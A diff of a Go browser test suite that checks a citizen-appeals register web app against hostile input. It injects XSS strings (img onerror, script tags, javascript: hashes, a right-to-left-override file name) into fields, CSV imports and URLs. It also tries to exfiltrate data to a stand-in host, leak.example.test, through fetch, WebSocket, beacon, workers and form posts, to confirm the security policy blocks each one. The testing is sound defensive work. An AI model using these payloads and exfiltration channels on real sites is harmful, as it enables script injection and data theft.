@@ -22,11 +22,16 @@ import (
 // the next time.
 func harmful(n int) map[string]any {
 	text := func(i int) string { return hostile.Harmful[(n*7+i)%len(hostile.Harmful)] }
-	return map[string]any{"departmentId": "89729055-843a-4eeb-88e1-71535b245d6f", "isDirect": n%2 == 0, "format": text(0),
-		"number": text(1), "createDate": text(2), "name": text(3), "address": text(4), "email": text(5), text(6): text(7),
+	return map[string]any{"departmentId": "89729055-843a-4eeb-88e1-71535b245d6f", "isDirect": n%2 == 0,
+		"format": text(0),
+		"number": text(1), "createDate": text(2), "name": text(3), "address": text(4), "email": text(5),
+		text(6): text(7),
 		"questions": []any{
-			map[string]any{"code": text(8), "status": text(9), "incomingDate": text(10), "responseDate": text(11), "attachment": map[string]any{"name": text(12), "content": "UERG"}},
-			map[string]any{"code": "0003.0009.0097.0694", "status": "Transferred", "transfer": map[string]any{"departmentId": text(13), "transferNumber": text(14), "transferDate": "2026-10-10"}, text(15): text(16)},
+			map[string]any{"code": text(8), "status": text(9), "incomingDate": text(10), "responseDate": text(11),
+				"attachment": map[string]any{"name": text(12), "content": "UERG"}},
+			map[string]any{"code": "0003.0009.0097.0694", "status": "Transferred",
+				"transfer": map[string]any{"departmentId": text(13), "transferNumber": text(14),
+					"transferDate": "2026-10-10"}, text(15): text(16)},
 		}}
 }
 
@@ -84,15 +89,17 @@ func (c *clerk) unfold() {
 
 const badName = "<img src=x onerror='window.rroHit=1'>Отчёт\u202Egpj"
 
-// TestHostileContent puts hostile texts into every field, file name, directory
-// and archive and looks at every screen: nothing runs, nothing is asked for,
-// and what is written stands there as text.
+// TestHostileContent puts hostile texts into every field, file name, directory and
+// archive and looks at every screen: nothing runs, nothing is requested, and the
+// texts are shown as text.
 func TestHostileContent(t *testing.T) {
 	t.Parallel()
-	// A dialog asks nobody: whoever opens one has run.
-	c := startClerk(t, offline, option{inject: `window.alert = window.confirm = window.prompt = () => { window.rroHit = 1; }`})
+	// Dialogs do nothing here. If one was opened, a script has run.
+	c := startClerk(t, offline,
+		option{inject: `window.alert = window.confirm = window.prompt = () => { window.rroHit = 1; }`})
 	c.must(c.Open("Настройки"))
-	for i, field := range []string{"Наименование органа государственной власти или органа местного самоуправления", "Уникальный идентификатор уполномоченного лица", "Ф.И.О. уполномоченного лица", "Должность"} {
+	for i, field := range []string{"Наименование органа государственной власти или органа местного самоуправления",
+		"Уникальный идентификатор уполномоченного лица", "Ф.И.О. уполномоченного лица", "Должность"} {
 		c.must(c.Fill(nil, field, hostile.Harmful[i]))
 	}
 	// That of another body than the one the records name.
@@ -127,7 +134,8 @@ func TestHostileContent(t *testing.T) {
 	c.wait(`document.querySelectorAll("main tbody tr").length >= 5`)
 	c.clean("register")
 	var cards []string
-	c.eval(`[...document.querySelectorAll("main a[href^='#/appeals/']")].map(a => a.getAttribute("href")).filter(h => h.length > 20)`, &cards)
+	c.eval(`[...document.querySelectorAll("main a[href^='#/appeals/']")].map(a => a.getAttribute("href")).filter(h =>`+
+		` h.length > 20)`, &cards)
 	if len(cards) < 5 {
 		t.Fatalf("%d cards in the register: too few to look at", len(cards))
 	}
@@ -138,7 +146,8 @@ func TestHostileContent(t *testing.T) {
 		c.clean("card " + card)
 	}
 	c.newCard()
-	for i, field := range []string{numberField, "Дата документа по обращению", "Дата поступления в орган", "Дата регистрации в органе", "ФИО", "Адрес", "E-mail"} {
+	for i, field := range []string{numberField, "Дата документа по обращению", "Дата поступления в орган",
+		"Дата регистрации в органе", "ФИО", "Адрес", "E-mail"} {
 		c.must(c.Fill(nil, field, hostile.Harmful[i+12]))
 	}
 	c.must(c.Fill(nil, numberField, "1\u200b-ОГ"))
@@ -150,7 +159,8 @@ func TestHostileContent(t *testing.T) {
 	csv.WriteString("Номер;ФИО;Адрес;Статус;<script>window.rroHit=1</script>\n")
 	for i := range hostile.Harmful {
 		for j := range 5 {
-			fmt.Fprintf(&csv, `"%s";`, strings.NewReplacer(`"`, `""`, "\x00", "").Replace(hostile.Harmful[(i+j)%len(hostile.Harmful)]))
+			fmt.Fprintf(&csv, `"%s";`,
+				strings.NewReplacer(`"`, `""`, "\x00", "").Replace(hostile.Harmful[(i+j)%len(hostile.Harmful)]))
 		}
 		csv.WriteString("\n")
 	}
@@ -161,7 +171,8 @@ func TestHostileContent(t *testing.T) {
 		c.must(c.Open(screen))
 		c.clean(screen)
 	}
-	for _, address := range []string{"#/%", "#/appeals/%E0%A4", "#/appeals/<script>window.rroHit=1</script>", "#/javascript:window.rroHit=1", "#/__proto__", "#/appeals?query=%ff&page=1e9&cols=<b>"} {
+	for _, address := range []string{"#/%", "#/appeals/%E0%A4", "#/appeals/<script>window.rroHit=1</script>",
+		"#/javascript:window.rroHit=1", "#/__proto__", "#/appeals?query=%ff&page=1e9&cols=<b>"} {
 		c.eval(fmt.Sprintf("location.hash = %q", address), nil)
 		c.settle()
 		c.clean("address " + address)
@@ -176,9 +187,13 @@ func TestHostileContent(t *testing.T) {
 func (c *clerk) clean(state string) {
 	c.t.Helper()
 	var bad []string
-	c.eval(`[...document.querySelectorAll("#app script, #app iframe, #app img, #app object, #app embed, #app svg[onload], #app form[action], #app base, #app meta, #app link, #app [style*=url]")].map(e => e.outerHTML.slice(0, 200))
-		.concat([...document.querySelectorAll("#app *")].filter(e => [...e.attributes].some(a => /^on/.test(a.name))).map(e => e.outerHTML.slice(0, 200)))
-		.concat([...document.querySelectorAll("#app a[href]")].map(a => a.getAttribute("href")).filter(h => !h.startsWith("#") && !h.startsWith("blob:file")))
+	c.eval(`[...document.querySelectorAll("#app script, #app iframe, #app img, #app object, #app embed, " +
+			"#app svg[onload], #app form[action], #app base, #app meta, #app link, #app [style*=url]")]
+		.map(e => e.outerHTML.slice(0, 200))
+		.concat([...document.querySelectorAll("#app *")].filter(e => [...e.attributes].some(a => /^on/.test(a.name)))
+			.map(e => e.outerHTML.slice(0, 200)))
+		.concat([...document.querySelectorAll("#app a[href]")].map(a => a.getAttribute("href"))
+			.filter(h => !h.startsWith("#") && !h.startsWith("blob:file")))
 		.concat(window.rroHit === undefined ? [] : ["window.rroHit was set"])`, &bad)
 	if len(bad) > 0 {
 		c.t.Errorf("%s: %q", state, bad)
@@ -192,26 +207,82 @@ const leaks = `(async () => {
 	const policy = [];
 	document.addEventListener("securitypolicyviolation", e => policy.push(e.effectiveDirective));
 	const attempt = async (name, what) => { tried.push(name); try { await what(); } catch (e) { refused.push(name); } };
-	const element = (tag, set) => new Promise((ok, no) => { const e = document.createElement(tag); e.onload = ok; e.onerror = no; set(e); document.body.append(e); setTimeout(() => { e.remove(); no(new Error("nothing came")); }, 700); });
+	const settled = what => new Promise(what);
+	const after = (ms, what) => setTimeout(what, ms);
+	const violated = (directive, no) => document.addEventListener("securitypolicyviolation",
+		e => e.effectiveDirective === directive && no(new Error()));
+	const element = (tag, set) => settled((ok, no) => {
+		const e = document.createElement(tag);
+		e.onload = ok;
+		e.onerror = no;
+		set(e);
+		document.body.append(e);
+		after(700, () => { e.remove(); no(new Error("nothing came")); });
+	});
+	const worker = address => settled((ok, no) => {
+		const w = new Worker(address);
+		w.onmessage = e => (e.data === 0 ? no(new Error()) : ok());
+		w.onerror = no;
+		after(3000, no);
+	});
 	await attempt("fetch", () => fetch(to));
 	await attempt("fetch no-cors", () => fetch(to, {mode: "no-cors", method: "POST", body: "x"}));
-	await attempt("XMLHttpRequest", () => new Promise((ok, no) => { const x = new XMLHttpRequest(); x.onload = ok; x.onerror = no; x.open("POST", to); x.send("x"); }));
-	await attempt("WebSocket", () => new Promise((ok, no) => { const s = new WebSocket("ws://leak.example.test/x"); s.onopen = ok; s.onerror = no; }));
-	await attempt("EventSource", () => new Promise((ok, no) => { const s = new EventSource(to); s.onopen = ok; s.onerror = () => { s.close(); no(new Error()); }; }));
+	await attempt("XMLHttpRequest", () => settled((ok, no) => {
+		const x = new XMLHttpRequest();
+		x.onload = ok;
+		x.onerror = no;
+		x.open("POST", to);
+		x.send("x");
+	}));
+	await attempt("WebSocket", () => settled((ok, no) => {
+		const s = new WebSocket("ws://leak.example.test/x");
+		s.onopen = ok;
+		s.onerror = no;
+	}));
+	await attempt("EventSource", () => settled((ok, no) => {
+		const s = new EventSource(to);
+		s.onopen = ok;
+		s.onerror = () => { s.close(); no(new Error()); };
+	}));
 	await attempt("img", () => element("img", e => { e.src = to + ".png"; }));
 	await attempt("style sheet", () => element("link", e => { e.rel = "stylesheet"; e.href = to + ".css"; }));
 	await attempt("script", () => element("script", e => { e.src = to + ".js"; }));
-	await attempt("inline script", () => new Promise((ok, no) => { window.rroRan = 0; const s = document.createElement("script"); s.textContent = "window.rroRan = 1"; document.body.append(s); s.remove(); window.rroRan ? ok() : no(new Error()); }));
+	await attempt("inline script", () => settled((ok, no) => {
+		window.rroRan = 0;
+		const s = document.createElement("script");
+		s.textContent = "window.rroRan = 1";
+		document.body.append(s);
+		s.remove();
+		window.rroRan ? ok() : no(new Error());
+	}));
 	await attempt("eval", () => window.eval("1"));
-	await attempt("iframe", () => new Promise((ok, no) => { const f = document.createElement("iframe"); document.addEventListener("securitypolicyviolation", e => e.effectiveDirective === "frame-src" && no(new Error())); f.src = to; document.body.append(f); setTimeout(() => { f.remove(); ok(); }, 1500); }));
+	await attempt("iframe", () => settled((ok, no) => {
+		const f = document.createElement("iframe");
+		violated("frame-src", no);
+		f.src = to;
+		document.body.append(f);
+		after(1500, () => { f.remove(); ok(); });
+	}));
 	await attempt("object", () => element("object", e => { e.data = to; }));
 	await attempt("video", () => element("video", e => { e.src = to + ".mp4"; }));
 	await attempt("font", () => new FontFace("leak", "url(" + to + ".woff2)").load());
-	await attempt("worker", () => new Promise((ok, no) => { const w = new Worker(to); w.onmessage = ok; w.onerror = no; setTimeout(no, 1500); }));
-	await attempt("data worker", () => new Promise((ok, no) => { const w = new Worker("data:text/javascript,postMessage(1)"); w.onmessage = ok; w.onerror = no; setTimeout(no, 1500); }));
-	await attempt("worker's fetch", () => new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('" + to + "').then(() => postMessage(1), () => postMessage(0))"]))); w.onmessage = e => (e.data ? ok() : no(new Error())); w.onerror = no; setTimeout(no, 3000); }));
-	await attempt("form", () => new Promise((ok, no) => { document.addEventListener("securitypolicyviolation", e => e.effectiveDirective === "form-action" && no(new Error())); const f = document.createElement("form"); f.action = to; f.method = "post"; document.body.append(f); f.submit(); setTimeout(() => { f.remove(); ok(); }, 5000); }));
-	await attempt("beacon", () => { if (navigator.sendBeacon(to, "x")) return new Promise((ok, no) => setTimeout(() => (policy.includes("connect-src") ? no(new Error()) : ok()), 300)); throw new Error(); });
+	await attempt("worker", () => worker(to));
+	await attempt("data worker", () => worker("data:text/javascript,postMessage(1)"));
+	await attempt("worker's fetch", () => worker(URL.createObjectURL(new Blob([
+		"fetch('" + to + "').then(() => postMessage(1), () => postMessage(0))"]))));
+	await attempt("form", () => settled((ok, no) => {
+		violated("form-action", no);
+		const f = document.createElement("form");
+		f.action = to;
+		f.method = "post";
+		document.body.append(f);
+		f.submit();
+		after(5000, () => { f.remove(); ok(); });
+	}));
+	await attempt("beacon", () => {
+		if (!navigator.sendBeacon(to, "x")) throw new Error();
+		return settled((ok, no) => after(300, () => (policy.includes("connect-src") ? no(new Error()) : ok())));
+	});
 	return {tried, refused};
 })()`
 
